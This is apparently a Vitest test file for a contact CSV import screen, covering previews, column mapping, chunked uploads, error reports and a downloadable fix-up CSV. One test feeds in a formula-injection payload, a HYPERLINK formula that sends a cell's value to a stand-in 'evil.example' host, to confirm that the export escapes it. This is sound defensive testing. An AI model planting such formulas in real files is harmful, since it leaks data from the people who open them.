import { afterEach, describe, expect, it, vi } from 'vitest';
import { screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import Papa from 'papaparse';
import { csvFile, downloaded, openImport, posts, serve, tableRows } from './contact-import-harness';

/** A spreadsheet of `n` people; row `bad` (1-based, among the people) has a phone without "+", row `nan` an order count that is no number. */
function spreadsheet(n: number, { bad, nan }: { bad?: number; nan?: number } = {}) {
  const lines = Array.from({ length: n }, (_, i) => [
    `Person ${i + 1} Smith`, i + 1 === bad ? '0151 1234' : `+1 415 555 ${String(1000 + i).padStart(4, '0')}`, `p${i + 1}@example.com`,
    i + 1 === nan ? 'many' : String(i % 5), 'gold', 'vip; lead', 'ignored',
  ]);
  return Papa.unparse({ fields: ['Name', 'Phone', 'E-mail', 'Order count', 'Plan', 'Tags', 'Notes'], data: lines });
}

afterEach(() => {
  vi.restoreAllMocks();
  window.location.hash = '';
});

describe('options: contact import', () => {
  it('previews the file, guesses the columns, and imports in chunks with a progress bar and a summary of what failed, what was left out and why', async () => {
    const user = userEvent.setup();
    const calls = serve();
    const panel = await openImport();
    expect(screen.getAllByRole('link').map((l) => l.textContent)).toEqual(['Restrictions', 'Contacts', 'Runs']); // a supervisor's menu: Runs since the thirty-sixth session (read-only run history)
    await waitFor(() => expect(calls.some((c) => c.path === '/fields')).toBe(true));

    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile(spreadsheet(1_200, { bad: 3, nan: 700 })));
    const preview = panel.getByRole('table', { name: 'Preview of the file' });
    expect(preview.querySelectorAll('tr')).toHaveLength(2 + 5);
    expect(panel.getByRole('cell', { name: 'Person 1 Smith' })).toBeTruthy();
    const mapped = (column: string) => (panel.getByLabelText(`Map column “${column}”`) as HTMLSelectElement).value;
    expect(['Name', 'Phone', 'E-mail', 'Order count', 'Plan', 'Tags', 'Notes'].map(mapped))
      .toEqual(['fullName', 'phone', 'email', 'skip', 'field:plan', 'tags', 'skip']);
    await user.selectOptions(panel.getByLabelText('Map column “Order count”'), 'field:orders');

    // Off unless asked, with what turning it on means.
    expect((panel.getByLabelText('Run workflows for these changes') as HTMLInputElement).checked).toBe(false);
    expect((panel.getByLabelText('Skip the contact when a value does not fit') as HTMLInputElement).checked).toBe(false);
    expect(panel.getByText(/may message every one of them/)).toBeTruthy();
    expect((panel.getByLabelText('Find existing contacts by') as HTMLSelectElement).value).toBe('phone_or_email');

    await user.click(panel.getByRole('button', { name: 'Import 1,200 rows' }));
    const summary = await panel.findByText(/^Import finished/);
    expect(summary.textContent).toBe('Import finished: 1,199 created, 0 updated, 0 unchanged, 1 failed.');
    const bar = panel.getByRole('progressbar', { name: 'Import progress' }) as HTMLProgressElement;
    expect([bar.value, bar.max]).toEqual([1_200, 1_200]);

    // In parts of 500; the line whose phone the server would refuse never left the page, the one
    // whose order count is no number went without it.
    const sent = posts(calls);
    expect(sent.map((b) => b.contacts.length)).toEqual([500, 500, 199]);
    expect(sent.every((b) => b.fireTriggers === false && b.match === 'phone_or_email' && b.onInvalidField === 'skip')).toBe(true);
    expect(sent[0]!.contacts[0]).toEqual({
      firstName: 'Person', lastName: '1 Smith', phone: '+1 415 555 1000', email: 'p1@example.com', tags: ['vip', 'lead'], fields: { orders: 0, plan: 'Gold' },
    });
    expect(sent[1]!.contacts.find((c) => (c as { firstName: string; lastName: string }).lastName === '700 Smith')).toMatchObject({ fields: { plan: 'Gold' } });

    // Each failure by its row in the spreadsheet (the header is row 1), saying what to fix; each value left out by row and column.
    expect(tableRows(panel, 'Rows not imported')).toEqual([['4', expect.stringMatching(/^Phone: Start with \+ and the country code/)]]);
    expect(tableRows(panel, 'Values skipped')).toEqual([['701', 'Order count', '"many" is not a number']]);
    expect(panel.getByText('1 value skipped in 1 imported row: that contact was imported without it.')).toBeTruthy();

    // And as a file Excel opens in UTF-8: the same columns, why each row is there.
    const file = await downloaded(() => user.click(panel.getByRole('button', { name: 'Download the rows to fix (CSV)' })));
    expect(file.name).toBe('contacts-to-fix.csv');
    expect([...file.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.rows[0]).toEqual(['Name', 'Phone', 'E-mail', 'Order count', 'Plan', 'Tags', 'Notes', 'Error', 'Skipped values']);
    expect(file.rows.slice(1).map((r) => [r[0], r[7], r[8]])).toEqual([
      ['Person 3 Smith', expect.stringMatching(/^Phone: Start with \+/), ''],
      ['Person 700 Smith', '', 'Order count: "many" is not a number'],
    ]);
  });

  it('writes a cell that starts like a formula into the rows to fix as text, which Excel does not run', async () => {
    const user = userEvent.setup();
    serve();
    const panel = await openImport();
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';
    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile(Papa.unparse({ fields: ['Name', 'Phone'], data: [[evil, '0151 1234'], ['@SUM(A1)', '-2']] })));
    await user.click(panel.getByRole('button', { name: 'Import 2 rows' }));
    await panel.findByText(/^Import finished/);
    const file = await downloaded(() => user.click(panel.getByRole('button', { name: 'Download the rows to fix (CSV)' })));
    expect(file.rows.slice(1, 3).map((r) => r.slice(0, 2))).toEqual([[`'${evil}`, '0151 1234'], ["'@SUM(A1)", "'-2"]]);
  });

  it('runs workflows only when asked, and matches by the key chosen', async () => {
    const user = userEvent.setup();
    const calls = serve();
    const panel = await openImport();
    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile('First name,Email,Labels\nAna,ana@example.com,VIP\n'));
    await user.selectOptions(panel.getByLabelText('Find existing contacts by'), 'email');
    await user.click(panel.getByLabelText('Run workflows for these changes'));
    await user.click(panel.getByRole('button', { name: 'Import 1 row' }));
    await panel.findByText(/^Import finished/);
    expect(posts(calls)).toEqual([{ contacts: [{ firstName: 'Ana', email: 'ana@example.com', tags: ['VIP'] }], match: 'email', fireTriggers: true, onInvalidField: 'skip' }]);
  });

  it('stops at a chunk the server refuses whole, saying what was imported', async () => {
    const user = userEvent.setup();
    serve({ 'POST /contacts/import': { status: 403, body: { error: { code: 'forbidden', message: 'This needs the supervisor role; you are an agent' } } } });
    const panel = await openImport();
    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile('Name,Phone\nAna Diaz,+34600111222\n'));
    await user.click(panel.getByRole('button', { name: 'Import 1 row' }));
    expect((await panel.findByRole('alert')).textContent).toBe('Stopped at row 2: This needs the supervisor role; you are an agent. Nothing was imported.');
    expect(panel.getByRole('status').textContent).toContain('Import stopped: 0 created');
  });

  it('says why a file cannot be read, and warns when no column finds existing contacts', async () => {
    const user = userEvent.setup();
    serve();
    const panel = await openImport();
    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile('Name,Phone\n'));
    expect((await panel.findByRole('alert')).textContent).toBe('The file has a header line and no contacts under it');
    await user.upload(panel.getByLabelText('Choose a CSV file…'), csvFile('Name,City\nAna,Lyon\n'));
    expect((await panel.findByRole('status')).textContent).toMatch(/No column is mapped to Phone or Email: every row creates a new contact/);
    expect(panel.queryByRole('alert')).toBeNull();
  });
});
